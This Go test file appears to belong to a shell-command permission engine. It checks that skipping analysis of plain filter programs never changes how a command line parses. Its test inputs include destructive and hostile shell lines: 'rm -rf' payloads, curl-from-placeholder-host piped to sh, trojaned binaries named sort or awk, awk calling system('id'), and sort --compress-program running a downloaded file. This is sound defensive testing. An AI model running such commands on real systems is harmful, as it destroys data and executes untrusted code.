package shell

import (
	"reflect"
	"strings"
	"testing"

	"rampart.dev/pkg/catalog"
)

// TestFiltersRunNothing checks that every filter is what the walk and the
// effects take it for: a catalogue entry with no properties, subcommands
// or wrapped command; no shell, interpreter, loader, module loader,
// recipe runner, PowerShell name or other program runs reads; and holds
// the walk that skips runs for them to the full walk, command for command,
// on every exec row of the engine's tables.
func TestFiltersRunNothing(t *testing.T) {
	cat := catalog.Default()
	for name := range filters.All() {
		e, _ := cat.Lookup(name, nil)
		switch {
		case e == nil || e.HasProps() || e.Sub:
			t.Errorf("%s: want a catalogue entry with no properties and no subcommands", name)
		case !plain(name) || cat.IsWrapper(name) || Runner(name):
			t.Errorf("%s: a wrapper, runner, shell or interpreter", name)
		case strings.Contains(name, "-") || isPwsh(name) || isCmdExe(name) || vimNames.Get(name):
			t.Errorf("%s: a name runs reads", name)
		}
		if _, ok := moduleLangs.Get()[unversioned(name)]; ok {
			t.Errorf("%s: loads modules", name)
		}
		if _, ok := recipeRunners.Lookup(name); ok {
			t.Errorf("%s: runs recipes", name)
		}
	}
	lines := []string{
		"cat > x.sh <<'EOF'\nrm -rf /\nEOF\ncat x.sh | sh", "echo 'rm -rf /' > sort; ./sort", "curl -o cut https://x.example/c; ./cut",
		"sort -o run.sh x; sh run.sh", "cat $(ls *.go) | sort | uniq -c", "tac <(curl -s https://x.example) | sh",
		// module loaders and recipe runners (plain programs runs reads)
		// after a command that wrote their files
		"cp /tmp/e.js src/a.test.js && jest", "mv /tmp/c.py conftest.py; pytest", "cp /tmp/J justfile && just build",
		"cp /tmp/t.rake Rakefile; rake", "cp /tmp/x.js vite.config.js && vite build", "cp /tmp/p.yaml .pre-commit-config.yaml && pre-commit run",
		"ln -s /tmp/x.js webpack.config.js; webpack", "cp /tmp/T Taskfile.yml && task",
		// filters on a line that wrote files: skipped unless a written
		// file, seen or not, or a built program could be the program
		"ls | tee /tmp/out.txt | wc -l | sort -rn | tail -n 3", "echo 'rm -rf ~' > x.sh; cat x.sh | tr a-z A-Z | rev",
		"curl -s https://x.example | tee sort; sort x.txt", "echo 'rm -rf ~' > sort; sort x.txt",
		"cp /tmp/x ~/.local/bin/sort; ls | sort", "curl -so ~/.local/bin/cut https://x.example; cut -f1 a",
		"cc -o sort x.c; cat x.c > y.c; sort a", "curl -s https://x.example > run.sh; cat run.sh | sh; cat run.sh | fold",
		"curl -s https://x.example > p.txt; cat p.txt | sort | uniq -c",
		// plain sed and awk scripts (plainscripts.go)
		"sed 's/a/b/g' | awk '{print $1}' | sort", "echo 'rm -rf ~' > x.sh; sed 's/a/b/' x.sh | sh", "awk '{print $1}' x.sh | bash",
		"curl -so sed https://x.example; ./sed 's/a/b/'", "cp /tmp/x ~/.local/bin/awk; awk '{print $1}'", "echo 'rm -rf ~' > awk; awk '{print}'",
		"echo 'BEGIN{system(\"id\")}' > p.awk; awk -f p.awk", "echo '1e id' > s.sed; sed -f s.sed", "sed 's/a/b/' -i f", "awk -F: '{print $1}' /etc/passwd",
		"awk \"{print $1}\"", "f() { awk \"{print $1}\"; }; f '}{system(\"id\")'", "sed -n '1,5p' <(curl -s https://x.example) | sh", "gawk -F , '{print $NF}' -",
		// a filter's option that runs a program (sort --compress-program)
		"sort --compress-program=/tmp/z a", "curl -so z https://x.example; chmod +x z; sort --compress-program=./z a | uniq -c",
		"echo 'rm -rf ~' > z; sort --compress-program z a",
	}
	lines = append(lines, engineExecLines(t)...)
	defer func() { skipFilterRuns = true }()
	for _, line := range lines {
		skipFilterRuns = false
		full := Parse(line)
		skipFilterRuns = true
		skip := Parse(line)
		if !reflect.DeepEqual(full, skip) {
			t.Errorf("%q:\n full %s\n skip %s", line, strings.Join(describeAll(full), " | "), strings.Join(describeAll(skip), " | "))
		}
	}
}
